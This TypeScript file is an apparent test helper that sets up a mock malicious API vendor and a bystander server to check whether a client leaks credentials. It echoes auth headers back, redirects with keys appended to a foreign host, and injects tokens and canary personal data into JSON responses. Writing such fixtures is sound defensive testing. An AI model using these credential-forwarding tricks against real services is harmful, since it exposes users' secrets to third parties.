// A vendor that means harm, or is broken in the worst way: it stands before a twin and repeats whatever it is told.
import { createServer, type IncomingMessage } from 'node:http';
import { type Listening, listening, standBefore } from '../../e2e/helpers/proxy.ts';

/** What a person of the shop would not want to read in a log; each form hides it in another place. */
export const CANARIES = {
  body: 'zqbody.canary@example.com',
  key: 'zqkey.canary@example.com',
  header: 'zqheader.canary@example.com',
  value: 'Zqvalue Canary of 12 Hostile Street',
  number: 491519990017,
} as const;

/** Somebody else's server: it notes who came, and with what. */
export async function bystander(): Promise<Listening & { readonly heard: string[] }> {
  const heard: string[] = [];
  const server = createServer((request, response) => {
    heard.push(`${request.url} ${JSON.stringify(request.headers)}`);
    response.end('{}');
  });
  return { ...(await listening(server)), heard };
}

/** Each answer in turn; `undefined` passes the question on to the twin, and adds to its answer. */
const TRICKS = [
  undefined,
  undefined,
  'refuse',
  undefined,
  undefined,
  undefined,
  'redirect',
  undefined,
  undefined,
  'nonsense',
  undefined,
  undefined,
] as const;

/**
 * @param twin the address it stands before
 * @param foreign where its redirects and next links lead
 */
export async function hostileVendor(twin: string, foreign: string): Promise<Listening> {
  let asked = 0;
  const vendor = await standBefore(twin, {
    headers: (request) => ({ ...repeated(request, foreign), 'x-note': CANARIES.header }),
    answer: (request, body, response) => {
      const trick = /oauth|token/.test(request.url ?? '') ? undefined : TRICKS[asked++ % TRICKS.length];
      if (trick === undefined) return false;
      const headers = {
        ...repeated(request, foreign),
        'content-type': 'application/json',
        'x-note': CANARIES.header,
      };
      const echo = JSON.stringify({
        error: { message: `${CANARIES.body} ${JSON.stringify(request.headers)} ${body}` },
        ...Object.fromEntries(proofsOf(request).map((proof) => [proof, 1])),
      });
      if (trick === 'refuse') response.writeHead(asked % 2 ? 400 : 422, headers).end(echo);
      else if (trick === 'redirect')
        response
          .writeHead(302, {
            ...headers,
            location: `${foreign}${request.url}&who=${CANARIES.body}&key=${proofsOf(request).join()}`,
          })
          .end(echo);
      else response.writeHead(200, headers).end(`<p>${echo}`);
      return true;
    },
    rewrite: (text, _path, request) =>
      poisoned(asked % 5 === 0 ? text.replaceAll(vendor.url, foreign) : text, proofsOf(request)),
  });
  return vendor;
}

/** What a question proves itself with, without the word before it. */
const proofsOf = ({ headers }: IncomingMessage): string[] =>
  Object.entries(headers).flatMap(([name, value]) =>
    /authorization|token|key/.test(name) && typeof value === 'string' && !/["\\]/.test(value)
      ? [value.replace(/^\S+ /, '')]
      : [],
  );

/** Credentials in names and values of headers, and a next page that would carry them to another server. */
function repeated(request: IncomingMessage, foreign: string): Record<string, string> {
  const proofs = proofsOf(request);
  const next = { link: `<${foreign}${request.url}&key=${proofs.join()}>; rel="next"` };
  return Object.assign(next, ...proofs.map((proof) => ({ [`x-echo-${proof.replace(/[^\w-]/g, '')}`]: proof })));
}

/** Credentials and undeclared fields in every object that has an id: a key, texts and a number that are somebody's. */
const poisoned = (text: string, proofs: readonly string[]): string =>
  text.replaceAll(
    /\{"(?=(?:id|entity_id|email|node)":)/g,
    () =>
      `{${proofs.map((proof) => `"${proof}":1,"zq_proof":"${proof}","url":"https://x.example/?key=${proof}",`).join('')}"${CANARIES.key}":1,"zq_note":"${CANARIES.value}","zq_cell":${CANARIES.number},"zq_deep":{"${CANARIES.key}":{"at":"${CANARIES.body}"}},"`,
  );
